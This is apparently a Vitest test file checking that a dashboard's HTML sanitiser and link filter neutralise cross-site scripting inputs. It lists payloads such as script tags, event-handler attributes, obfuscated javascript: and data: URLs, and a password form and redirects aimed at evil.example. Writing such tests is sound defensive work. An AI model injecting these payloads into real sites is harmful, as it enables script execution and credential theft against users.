// @vitest-environment jsdom
import { describe, expect, it } from 'vitest'
import { safeUrl } from './safe-url.ts'
import { sanitise } from './text-panel.tsx'

describe('text of a dashboard', () => {
  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<form action="https://evil.example"><input name=password></form>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<div style="position:fixed;inset:0">x</div>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<object data="data:text/html,x"></object>',
  ])('%s cannot run or leave the panel', (html) => {
    const clean = sanitise(html)
    expect(clean).not.toMatch(
      /script|onerror|onload|iframe|<form|<input|style=|<base|<meta|<object|data:/i,
    )
  })

  it('keeps what is harmless', () => {
    const html = '<h1>A</h1><p><b>b</b> <a href="/d/x?var-a=1">c</a></p>'
    expect(sanitise(html)).toBe(html)
  })
})

describe('addresses of links', () => {
  it.each([
    ['/d/x', '/d/x'],
    ['https://a.example/?q=1', 'https://a.example/?q=1'],
    ['mailto:a@b.c', 'mailto:a@b.c'],
    ['?var-a=1', '?var-a=1'],
    ['javascript:alert(1)', 'about:blank'],
    [' JaVaScRiPt:alert(1)', 'about:blank'],
    ['java\tscript:alert(1)', 'about:blank'],
    ['data:text/html,x', 'about:blank'],
    ['vbscript:x', 'about:blank'],
  ])('%s leads to %s', (url, expected) => {
    expect(safeUrl(url)).toBe(expected)
  })
})
